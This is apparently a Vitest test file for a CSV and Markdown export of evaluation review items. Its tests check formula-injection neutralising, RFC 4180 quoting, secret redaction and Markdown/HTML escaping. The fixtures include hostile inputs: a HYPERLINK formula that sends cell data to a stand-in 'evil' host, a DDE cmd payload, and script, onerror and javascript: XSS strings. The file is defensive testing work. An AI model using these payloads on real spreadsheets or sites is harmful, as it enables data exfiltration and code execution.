import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../text/parse-csv.js';
import { neutralizeFormula, renderReview, type ReviewItem } from './export-review.js';

const item = (over: Partial<ReviewItem>): ReviewItem => ({
  sampleId: 7,
  taskType: 'support',
  source: 'routing',
  judgeVerdict: 'fail',
  judgeReason: 'wrong',
  input: 'q',
  answer: 'a',
  reference: 'r',
  ...over,
});

describe('renderReview (csv)', () => {
  it('neutralises cells a spreadsheet would run as formulas (OWASP) and keeps them re-importable', () => {
    const hostile = [
      '=HYPERLINK("http://evil/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = renderReview(
      hostile.map((h, i) => item({ sampleId: i + 1, input: h, answer: h, judgeReason: h })),
      'csv',
    );
    const rows = parseCsv(csv).slice(1);
    expect(rows).toHaveLength(hostile.length);
    rows.forEach((r, i) => {
      for (const col of [4, 5, 6]) {
        expect(r.fields[col]).toBe(`'${hostile[i]}`);
        expect(r.fields[col]).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(r.fields[0]).toBe(String(i + 1));
    });
  });

  it('quotes per RFC 4180: CRLF records, fields with commas, quotes or line breaks in double quotes', () => {
    const csv = renderReview([item({ input: 'a, "b"\nc', answer: 'plain' })], 'csv');
    expect(csv).toBe(
      'sample_id,task_type,source,judge_verdict,judge_reason,input,answer,reference,label\r\n7,support,routing,fail,wrong,"a, ""b""\nc",plain,r,\r\n',
    );
  });

  it('redacts keys, tokens and personal data in the exported text', () => {
    const csv = renderReview(
      [
        item({
          input: 'my key AKIAIOSFODNN7EXAMPLE, mail jane@example.com',
          answer: 'card 4111 1111 1111 1111',
          reference: 'password=hunter2',
        }),
      ],
      'csv',
    );
    for (const secret of ['AKIAIOSFODNN7EXAMPLE', 'jane@example.com', '4111 1111', 'hunter2'])
      expect(csv).not.toContain(secret);
    expect(csv).toContain('[redacted key]');
  });
});

describe('renderReview (md)', () => {
  it('escapes hostile text so the table keeps its columns and no HTML or link goes in raw', () => {
    const md = renderReview(
      [
        item({
          taskType: '<script>alert(1)</script>|x',
          judgeReason: '![x](http://evil/t.png) | [a](javascript:alert(1))\nnext',
          input: '<img src=x onerror=alert(1)>',
        }),
      ],
      'md',
    );
    expect(md).not.toMatch(/<script|<img/i);
    expect(md).not.toContain('](');
    expect(md).not.toContain('![');
    const rows = md.split('\n').filter((l) => l.startsWith('| '));
    for (const r of rows) expect(r.split(/(?<!\\)\|/).length).toBe(9);
  });
});

describe('neutralizeFormula', () => {
  it('leaves ordinary text alone', () => {
    expect(neutralizeFormula('refund in 5 days')).toBe('refund in 5 days');
    expect(neutralizeFormula('a=b')).toBe('a=b');
  });
});
